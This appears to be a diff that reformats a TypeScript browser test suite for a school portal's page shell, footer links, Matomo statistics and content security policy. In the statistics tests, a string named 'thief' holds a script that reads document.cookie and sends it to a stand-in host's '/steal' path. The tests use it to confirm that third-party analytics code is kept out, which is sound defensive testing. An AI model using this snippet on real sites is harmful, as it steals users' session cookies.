@@ -9,7 +9,12 @@ const inherits = join(portal.tenantsDir, "2097");
 
 beforeAll(async () => {
   mkdirSync(counted, { recursive: true });
-  const info = { isEnableStatistics: true, statisticsProvider: "matomo", statisticsCode: "7", statisticsHost: "stats.school.example" };
+  const info = {
+    isEnableStatistics: true,
+    statisticsProvider: "matomo",
+    statisticsCode: "7",
+    statisticsHost: "stats.school.example",
+  };
   writeFileSync(join(counted, "site.json"), JSON.stringify({ version: 1, info }));
   // What a flavour says is the operators' word.
   for (const folder of [flavour, inherits]) mkdirSync(folder, { recursive: true });
@@ -20,11 +25,24 @@ beforeAll(async () => {
     footerService: null,
     footerAbout: { in: "siteFooter.bottom", order: 5 },
     footerFriends: { when: null },
-    motto: { type: "footerNote", in: "siteFooter.top", props: { heading: { text: { "zh-CN": "先动手", en: "Hands on" } } } },
+    motto: {
+      type: "footerNote",
+      in: "siteFooter.top",
+      props: { heading: { text: { "zh-CN": "先动手", en: "Hands on" } } },
+    },
   };
   writeFileSync(join(counted, "layouts", "default.json"), JSON.stringify({ version: 1, blocks }));
-  await vi.waitFor(async () => expect((await fetch(`${portal.url}/org/2098`)).status).toBe(200), { timeout: 60_000, interval: 100 });
-  await vi.waitFor(async () => expect((await fetch(`${portal.url}/org/2097`)).headers.get("content-security-policy")).toContain("stats.school.example"), { timeout: 60_000, interval: 100 });
+  await vi.waitFor(async () => expect((await fetch(`${portal.url}/org/2098`)).status).toBe(200), {
+    timeout: 60_000,
+    interval: 100,
+  });
+  await vi.waitFor(
+    async () =>
+      expect((await fetch(`${portal.url}/org/2097`)).headers.get("content-security-policy")).toContain(
+        "stats.school.example",
+      ),
+    { timeout: 60_000, interval: 100 },
+  );
 });
 afterAll(() => [inherits, flavour, counted].forEach((folder) => rmSync(folder, { recursive: true, force: true })));
 
@@ -74,7 +92,11 @@ function shownIn(html: string): Shown {
   return {
     header: header.includes("site-header"),
     navigation: /class="wide"><nav[^>]*><ul><li>/.test(header),
-    footer: !footer.includes("site-footer") ? "none" : footer.includes("friends") && footer.includes("codes") ? "full" : "short",
+    footer: !footer.includes("site-footer")
+      ? "none"
+      : footer.includes("friends") && footer.includes("codes")
+        ? "full"
+        : "short",
   };
 }
 
@@ -97,19 +119,38 @@ describe("which parts of the shell show where", () => {
 });
 
 describe("the footer", () => {
-  test("has about pages, service numbers on QQ, codes of the accounts, friend links and every record on the platform's home", async ({ visit }) => {
+  test("has about pages, service numbers on QQ, codes of the accounts, friend links and every record on the platform's home", async ({
+    visit,
+  }) => {
     const { page } = await visit("/");
     const footer = page.locator("footer");
     const links = await footer.locator("a").evaluateAll((all) => all.map((one) => one.getAttribute("href")));
     expect(links.filter((href) => href?.startsWith("/terrace/")).length).toBeGreaterThan(5);
     expect(links.filter((href) => href?.startsWith("https://wpa.qq.com/msgrd?v=3&uin="))).toHaveLength(3);
-    expect(links).toEqual(expect.arrayContaining(["https://beian.miit.gov.cn/", "https://beian.mps.gov.cn/#/query/webSearch?code=33010000000000", "/terrace/license"]));
+    expect(links).toEqual(
+      expect.arrayContaining([
+        "https://beian.miit.gov.cn/",
+        "https://beian.mps.gov.cn/#/query/webSearch?code=33010000000000",
+        "/terrace/license",
+      ]),
+    );
     await footer.scrollIntoViewIfNeeded();
     const codes = footer.locator("figure img");
     expect(await footer.locator("figcaption").allInnerTexts()).toEqual(["微信公众号", "官方微博"]);
-    await expect.poll(() => codes.evaluateAll((all) => all.every((one) => (one as HTMLImageElement).naturalWidth > 0))).toBe(true);
-    const { websiteLinkList } = (await (await fetch(`${portal.url}/apis/system/api/website/link`, { method: "POST", headers: { "content-type": "application/json" }, body: "{}" })).json()).data;
-    for (const { linkName, linkUrl } of websiteLinkList) expect(await footer.getByRole("link", { name: linkName }).getAttribute("href")).toBe(linkUrl);
+    await expect
+      .poll(() => codes.evaluateAll((all) => all.every((one) => (one as HTMLImageElement).naturalWidth > 0)))
+      .toBe(true);
+    const { websiteLinkList } = (
+      await (
+        await fetch(`${portal.url}/apis/system/api/website/link`, {
+          method: "POST",
+          headers: { "content-type": "application/json" },
+          body: "{}",
+        })
+      ).json()
+    ).data;
+    for (const { linkName, linkUrl } of websiteLinkList)
+      expect(await footer.getByRole("link", { name: linkName }).getAttribute("href")).toBe(linkUrl);
   });
 
   test("of a site is what the site makes of it: parts taken off, moved, shown on every page, and added", async () => {
@@ -149,7 +190,9 @@ describe("waiting", () => {
     await page.evaluate(() => {
       const shown: number[] = [];
       (window as unknown as { shown: number[] }).shown = shown;
-      new MutationObserver(() => shown.push(performance.now())).observe(document.documentElement, { attributeFilter: ["data-busy"] });
+      new MutationObserver(() => shown.push(performance.now())).observe(document.documentElement, {
+        attributeFilter: ["data-busy"],
+      });
     });
     await page.route("**/_lectern/page*", async (route) => {
       await new Promise((resolve) => setTimeout(resolve, 160));
@@ -170,7 +213,9 @@ describe("waiting", () => {
     });
     const { page } = await visit("/", { context });
     await page.locator('header .wide a[href="/list"]').first().hover();
-    await expect.poll(() => page.evaluate(() => (window as unknown as { asked: unknown[] }).asked)).toContainEqual({ timeout: 2000 });
+    await expect
+      .poll(() => page.evaluate(() => (window as unknown as { asked: unknown[] }).asked))
+      .toContainEqual({ timeout: 2000 });
   });
 });
 
@@ -184,10 +229,14 @@ describe("statistics", () => {
   });
 
   /** A service that, where its script runs, sends away what it finds. */
-  const thief = 'window.stolen = document.cookie; new Image().src = "https://stats.school.example/steal?c=" + encodeURIComponent(document.cookie); fetch("https://stats.school.example/steal").catch(() => {});';
+  const thief =
+    'window.stolen = document.cookie; new Image().src = "https://stats.school.example/steal?c=" + encodeURIComponent(document.cookie); fetch("https://stats.school.example/steal").catch(() => {});';
   const seen = (requests: readonly string[]) => requests.filter((one) => one === "POST /_lectern/seen").length;
 
-  test("of an organisation bring nothing of its service into a page on the platform's host: no request, no script, though an operator looks", async ({ visit, browser }) => {
+  test("of an organisation bring nothing of its service into a page on the platform's host: no request, no script, though an operator looks", async ({
+    visit,
+    browser,
+  }) => {
     const context = await browser.newContext({ locale: "zh-CN" });
     const asked: string[] = [];
     await context.route("**/*", (route) => {
@@ -199,7 +248,10 @@ describe("statistics", () => {
     const { page, requests } = await visit("/org/2098/list?sort=new", { context, as: "13800000009" });
     const told: string[] = [];
     page.on("request", (request) => {
-      if (request.url().endsWith("/_lectern/seen")) told.push(`${(JSON.parse(request.postData() ?? "{}") as { path: string }).path} ${request.headers()["cookie"] ?? "without a cookie"}`);
+      if (request.url().endsWith("/_lectern/seen"))
+        told.push(
+          `${(JSON.parse(request.postData() ?? "{}") as { path: string }).path} ${request.headers()["cookie"] ?? "without a cookie"}`,
+        );
     });
     // The first is told in an idle moment, by when all of the page has come.
     await expect.poll(() => ({ told: seen(requests), asked })).toEqual({ told: 1, asked: [] });
@@ -208,13 +260,21 @@ describe("statistics", () => {
     await expect.poll(() => seen(requests)).toBe(2);
     expect(told.at(-1)).toBe("/org/2098/live without a cookie");
     expect(asked).toEqual([]);
-    expect(await page.evaluate(() => [(window as { stolen?: string }).stolen, document.querySelectorAll('script[src^="http"]').length])).toEqual([undefined, 0]);
+    expect(
+      await page.evaluate(() => [
+        (window as { stolen?: string }).stolen,
+        document.querySelectorAll('script[src^="http"]').length,
+      ]),
+    ).toEqual([undefined, 0]);
     const policy = (await fetch(`${portal.url}/org/2098/list`)).headers.get("content-security-policy") ?? "";
     expect(policy).toContain("connect-src 'self';");
     expect(policy).not.toContain("school.example");
   });
 
-  test("of the operators' choice come by the service, tell of each page by its path, and widen the policy for that service only", async ({ visit, browser }) => {
+  test("of the operators' choice come by the service, tell of each page by its path, and widen the policy for that service only", async ({
+    visit,
+    browser,
+  }) => {
     const context = await browser.newContext({ locale: "zh-CN" });
     const asked: string[] = [];
     await context.route(service, (route) => {
@@ -225,7 +285,12 @@ describe("statistics", () => {
     await expect.poll(() => asked).toEqual(["https://stats.school.example/matomo.js"]);
     await page.evaluate(() => document.querySelector<HTMLElement>('header a[href="/org/2097/live"]')!.click());
     await page.waitForURL("**/org/2097/live");
-    const told = () => page.evaluate(() => (window as unknown as { _paq: unknown[][] })._paq.filter(([call]) => call === "setCustomUrl").map(([, url]) => new URL(url as string).pathname + new URL(url as string).search));
+    const told = () =>
+      page.evaluate(() =>
+        (window as unknown as { _paq: unknown[][] })._paq
+          .filter(([call]) => call === "setCustomUrl")
+          .map(([, url]) => new URL(url as string).pathname + new URL(url as string).search),
+      );
     await expect.poll(told).toEqual(["/org/2097/list", "/org/2097/live"]);
     const policy = (await fetch(`${portal.url}/org/2097/list`)).headers.get("content-security-policy") ?? "";
     expect(policy).toContain("connect-src 'self' https://stats.school.example;");
@@ -235,7 +300,11 @@ describe("statistics", () => {
   for (const name of ["doNotTrack", "globalPrivacyControl"]) {
     test(`leave alone who sends ${name}`, async ({ visit, browser }) => {
       const context = await browser.newContext({ locale: "zh-CN" });
-      await context.addInitScript((property) => Object.defineProperty(Navigator.prototype, property, { get: () => (property === "doNotTrack" ? "1" : true) }), name);
+      await context.addInitScript(
+        (property) =>
+          Object.defineProperty(Navigator.prototype, property, { get: () => (property === "doNotTrack" ? "1" : true) }),
+        name,
+      );
       const { page, requests } = await visit("/org/2098", { context });
       // Idle moments come in the order in which they were asked for.
       await page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve, { timeout: 8000 })));
